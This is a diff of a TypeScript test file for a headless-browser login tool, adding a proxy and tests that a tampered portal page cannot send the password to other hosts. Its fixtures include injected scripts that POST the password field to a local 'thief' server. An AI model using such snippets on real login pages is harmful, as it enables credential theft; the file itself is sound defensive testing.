@@ -1,18 +1,28 @@
 /** Logging in: by the call, and by the portal's own page in a real headless browser. */
 
 import { spawnSync } from 'node:child_process';
+import { createSocket } from 'node:dgram';
 import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { createServer, type RequestListener, type Server, type ServerResponse } from 'node:http';
-import type { AddressInfo } from 'node:net';
+import { type AddressInfo, createServer as createTcpServer } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import type { Browser } from 'puppeteer-core';
-import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
+import type { Browser, BrowserContextOptions } from 'puppeteer-core';
+import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from 'vitest';
 import { Cancelled } from '../../src/errors.ts';
-import { findBrowser, launch, logInByBrowser, logInOn } from '../../src/portal/browser-login.ts';
-import { defaultProfile } from '../../src/portal/profile.ts';
+import {
+  findBrowser,
+  launch,
+  logInByBrowser,
+  logInOn,
+  openPage,
+  proxyOptions,
+} from '../../src/portal/browser-login.ts';
+import { type BrowserProxy, startBrowserProxy } from '../../src/portal/browser-proxy.ts';
+import { defaultProfile, type Login } from '../../src/portal/profile.ts';
 import { COMMON, type Job, newJob, runStep } from '../support/action.ts';
 import { startPortal } from '../support/portal.ts';
+import { NOT_ASKED, SERVICE_WORKER, tamperedPage, WAYS, type Way } from '../support/tampered-page.ts';
 
 const ACCOUNT = { username: 'developer@example.com', password: 'p4ss "word" & more' };
 const BROWSER = await findBrowser(process.env).catch(() => undefined);
@@ -96,28 +106,37 @@ describe.skipIf(!BROWSER)('by the page', () => {
     expect(readdirSync(job.temp).filter((name) => name.includes('browser'))).toEqual([]);
   });
 
-  // One browser for all the pages below: each gets a context of its own, as a login does.
+  // One browser for all the pages below: each gets a context and a proxy of its own, as a login does.
   let browser: Browser;
   let folder: string;
+  let unused: BrowserProxy;
   beforeAll(async () => {
     folder = mkdtempSync(join(tmpdir(), 'browser-'));
-    browser = await launch(String(BROWSER), folder, optionsFor('http://127.0.0.1'));
+    const options = optionsFor('http://127.0.0.1');
+    unused = await startBrowserProxy(proxyOptions(options));
+    browser = await launch(String(BROWSER), folder, unused, options);
   }, 60_000);
   afterAll(async () => {
     await browser.close();
+    await unused.close();
     rmSync(folder, { recursive: true, force: true, maxRetries: 5 });
   });
 
-  const optionsFor = (origin: string) => ({
-    profile: defaultProfile,
+  const optionsFor = (
+    origin: string,
+    login: Partial<Login> = {},
+    hosts: readonly string[] = [],
+    timeoutMs = 20_000,
+  ) => ({
+    profile: { ...defaultProfile, login: { ...defaultProfile.login, ...login } },
     origin: new URL(origin),
-    hosts: [],
+    hosts,
     account: ACCOUNT,
     environment: process.env,
     tempDir: tmpdir(),
     signal: new AbortController().signal,
     redact: (text: string) => text,
-    timeoutMs: 20_000,
+    timeoutMs,
   });
   const serve = async (page: RequestListener | string, host = '127.0.0.1') => {
     const html = (_: unknown, res: ServerResponse) => void res.setHeader('content-type', 'text/html').end(page);
@@ -126,9 +145,28 @@ describe.skipIf(!BROWSER)('by the page', () => {
     servers.push(server);
     return `http://${host}:${(server.address() as AddressInfo).port}`;
   };
-  const logIn = async (page: RequestListener | string) => {
-    const context = await browser.createBrowserContext();
-    return logInOn(await context.newPage(), optionsFor(await serve(page))).catch((error) => error);
+  const logIn = async (
+    page: RequestListener | string,
+    login?: Partial<Login>,
+    hosts?: readonly string[],
+    timeoutMs?: number,
+  ) => {
+    const options = optionsFor(await serve(page), login, hosts, timeoutMs);
+    const proxy = await startBrowserProxy(proxyOptions(options));
+    return logInThrough(proxy, options, { proxyServer: proxy.url, proxyBypassList: ['<-loopback>'] });
+  };
+  const logInThrough = async (
+    proxy: BrowserProxy,
+    options: ReturnType<typeof optionsFor>,
+    context: BrowserContextOptions,
+  ) => {
+    const page = await openPage(browser, context);
+    try {
+      return await logInOn(page, proxy, options).catch((error) => error);
+    } finally {
+      await page.browserContext().close();
+      await proxy.close();
+    }
   };
   const FORM = '<input id=username><input id=password type=password>';
   const onEnter = (script: string) =>
@@ -150,26 +188,165 @@ describe.skipIf(!BROWSER)('by the page', () => {
     expect(factor.found).toContain('second factor');
   });
 
-  test.concurrent('only cookies of the portal are taken, and data goes nowhere else', async () => {
+  const LETS_IN = onEnter("document.cookie = 'SESSION=from-the-page; path=/'; location.hash = '#/overview'");
+
+  test('a tampered page gets the password to no other host, whichever way it tries', async () => {
+    const connections: string[] = [];
+    const thief = createTcpServer((socket) => {
+      connections.push(`TCP ${socket.localAddress}`);
+      socket.destroy();
+    });
+    await new Promise<void>((resolve) => thief.listen(0, '0.0.0.0', resolve));
+    const { port } = thief.address() as AddressInfo;
+    const datagrams = createSocket('udp4', () => connections.push('UDP')).bind(port, '0.0.0.0');
+    cleanups.push(
+      () => thief.close(),
+      () => datagrams.close(),
+    );
+    const hostOf = (way: Way) => `127.0.1.${WAYS.indexOf(way) + 1}:${port}`;
+
+    const missing = () => WAYS.filter((way) => !NOT_ASKED.includes(way) && !proxy.blocked.has(hostOf(way)));
+    const pages: Record<string, (res: ServerResponse, url: URL) => unknown> = {
+      '/': (res) => res.setHeader('content-type', 'text/html').end(tamperedPage(hostOf)),
+      '/worker.js': (res) => res.setHeader('content-type', 'text/javascript').end(SERVICE_WORKER),
+      '/redirect': (res, url) => res.writeHead(302, { location: url.searchParams.get('to') ?? '' }).end(),
+      '/tried': async (res) => {
+        await vi.waitUntil(() => missing().length === 0, { timeout: 15_000 }).catch(() => {});
+        res.end();
+      },
+    };
+    const origin = await serve((req, res) => {
+      const url = new URL(req.url ?? '', 'http://portal');
+      void (pages[url.pathname] ?? ((response: ServerResponse) => response.writeHead(404).end()))(res, url);
+    });
+    const job = newJob();
+    const options = { ...optionsFor(origin), environment: { ...process.env, HOME: job.workspace } };
+    const proxy = await startBrowserProxy(proxyOptions(options));
+    // A browser of its own, started as a login starts it.
+    const own = await launch(String(BROWSER), job.temp, proxy, options);
+    cleanups.push(() => own.close(), proxy.close, job.close);
+    expect(await logInOn(await openPage(own), proxy, options)).toContain('SESSION=from-the-page');
+    // Its download found no place either.
+    expect(readdirSync(job.workspace)).not.toContain('Downloads');
+    expect(connections).toEqual([]);
+    expect(missing()).toEqual([]);
+  });
+
+  test.concurrent('the first address of the list that shows the fields is the login page', async () => {
+    const seen: string[] = [];
+    const session = await logIn((req, res) => {
+      seen.push(req.url ?? '');
+      const isLogin = req.url === '/superapp';
+      res.writeHead(isLogin ? 200 : 404, { 'content-type': 'text/html' });
+      res.end(
+        isLogin
+          ? LETS_IN.replace('<input', '<script>if (location.hash !== "#/login") document.body.remove()</script><input')
+          : 'no page',
+      );
+    });
+    expect(session).toBe('SESSION=from-the-page');
+    expect(seen.filter((path) => path !== '/favicon.ico')).toEqual(['/', '/login', '/superapp']);
+  });
+
+  test.concurrent('no address of the list shows the fields: each is told with its reason', async () => {
+    const error = await logIn((_, res) => res.writeHead(404).end('no page'), { page: ['/a', '/b'] }, [], 6_000);
+    expect(error).toMatchObject({ code: 'portal-unreachable', passing: false });
+    expect(error.found).toContain('(/a: HTTP 404; /b: ');
+  });
+
+  test.concurrent('a page of a host that may not have the password gets nothing typed, and is named', async () => {
+    const elsewhere = await serve(FORM, '127.0.0.2');
+    const { host } = new URL(elsewhere);
+    const errors = await Promise.all([
+      logIn((_, res) => res.writeHead(302, { location: elsewhere }).end()),
+      logIn(`<script>location = '${elsewhere}'</script>`),
+      // Even where the host may serve files.
+      logIn((_, res) => res.writeHead(302, { location: elsewhere }).end(), { staticHosts: [host] }),
+    ]);
+    for (const error of errors) {
+      expect(error).toMatchObject({ code: 'portal-unexpected', passing: false });
+      expect(error.found).toContain('nothing was typed');
+      expect(error.message).toContain(host);
+      expect(error.message).toContain('portal-hosts');
+    }
+  });
+
+  test.concurrent('a page of a host in portal-hosts gets the password', async () => {
+    const typed: string[] = [];
+    const portalHost = await serve((req, res) => {
+      if (req.method === 'POST') req.on('data', (chunk) => typed.push(String(chunk)));
+      res.setHeader('content-type', 'text/html').end(
+        onEnter(`
+        fetch('/', { method: 'POST', body: document.getElementById('password').value })
+          .then(() => { location = new URLSearchParams(location.search).get('back') + '/#/overview'; })`),
+      );
+    }, '127.0.0.2');
+    const portal: RequestListener = ({ url, headers }, res) =>
+      url === '/'
+        ? res.writeHead(302, { location: `${portalHost}/?back=http://${headers.host}/home` }).end()
+        : res.setHeader('set-cookie', 'SESSION=from-the-portal').end('welcome');
+    expect(await logIn(portal, {}, [new URL(portalHost).host])).toBe('SESSION=from-the-portal');
+    expect(typed).toEqual([ACCOUNT.password]);
+  });
+
+  test.concurrent('a login that is sent to another host is kept from it, and the host is named', async () => {
     const stolen: string[] = [];
     const thief = await serve((req, res) => {
       stolen.push(`${req.method} ${req.url}`);
       res.end();
-    }, '0.0.0.0');
-    const page = onEnter(`
-      const theft = { method: 'POST', mode: 'no-cors', body: document.getElementById('password').value };
-      fetch('${thief}', theft).catch(() => {}).then(() => {
-        document.cookie = 'SESSION=from-the-page; path=/'; location.hash = '#/overview';
-      })`);
-    expect(await logIn(page)).toBe('SESSION=from-the-page');
+    }, '127.0.0.2');
+    const error = await logIn(
+      `<form action="${thief}" method="post">${FORM.replace('id=password', 'id=password name=password')}<button>Log in</button></form>`,
+    );
+    expect(error).toMatchObject({ code: 'portal-unexpected', passing: false });
+    expect(error.message).toContain(new URL(thief).host);
+    expect(error.message).toContain('portal-hosts');
+    const told = await logIn(
+      onEnter(`fetch('${thief}').catch(() => { document.body.innerHTML += '<p role=alert>Login failed</p>'; })`),
+    );
+    expect(told).toMatchObject({ code: 'portal-unauthorized' });
+    expect(told.message).toMatch(/Login failed.*127\.0\.0\.2.*portal-hosts/);
     expect(stolen).toEqual([]);
   });
 
-  test.concurrent('a page that leads to a host that may not have the password gets nothing', async () => {
-    const elsewhere = await serve(FORM, '0.0.0.0');
-    const error = await logIn((_, res) => res.writeHead(302, { location: elsewhere }).end());
-    expect(error).toMatchObject({ code: 'portal-unexpected' });
+  test.concurrent('a static host serves files until something is typed, and is cut off then', async () => {
+    const asked: string[] = [];
+    let cut = false;
+    const files = await serve((req, res) => {
+      asked.push(req.url ?? '');
+      if (req.url === '/open') return void res.on('close', () => (cut = true)).write('data: 1\n\n');
+      res.setHeader('content-type', 'text/javascript').end(`document.body.innerHTML = '${FORM}'`);
+    }, '127.0.0.2');
+    const page = onEnter(`
+      fetch('${files}/stolen', { mode: 'no-cors' }).catch(() => {}).then(() => {
+        document.cookie = 'SESSION=from-the-page; path=/'; location.hash = '#/overview';
+      })`).replace(
+      FORM,
+      `<body><script>new Image().src = '${files}/open'</script><script src="${files}/form.js"></script>`,
+    );
+    expect(await logIn(page, { staticHosts: [new URL(files).host] })).toBe('SESSION=from-the-page');
+    expect(asked.sort()).toEqual(['/form.js', '/open']);
+    expect(cut).toBe(true);
+  });
+
+  test.concurrent('a browser that goes round the proxy gets nothing typed', async () => {
+    const options = optionsFor(await serve(LETS_IN));
+    const proxy = await startBrowserProxy(proxyOptions(options));
+    const error = await logInThrough(proxy, options, { proxyServer: 'direct://' });
+    expect(error).toMatchObject({ code: 'portal-unreachable', passing: false });
     expect(error.found).toContain('nothing was typed');
+  });
+
+  test.concurrent("the browser's own error page is no refusal of the portal", async () => {
+    const form = `<form method=post>${FORM}<button>Log in</button></form>`;
+    const error = await logIn((req, res) =>
+      req.method === 'POST' ? res.destroy() : res.setHeader('content-type', 'text/html').end(form),
+    );
+    expect(error).toMatchObject({ code: 'portal-unreachable', passing: false, effect: 'unknown' });
+    expect(error.found).toContain('socket hang up');
+    const nobody = await logIn((_, res) => res.destroy());
+    expect(nobody).toMatchObject({ code: 'portal-unreachable', passing: true });
+    expect(nobody.found).toContain('socket hang up');
   });
 
   test('a cancelled run ends the browser and leaves no folder', async () => {
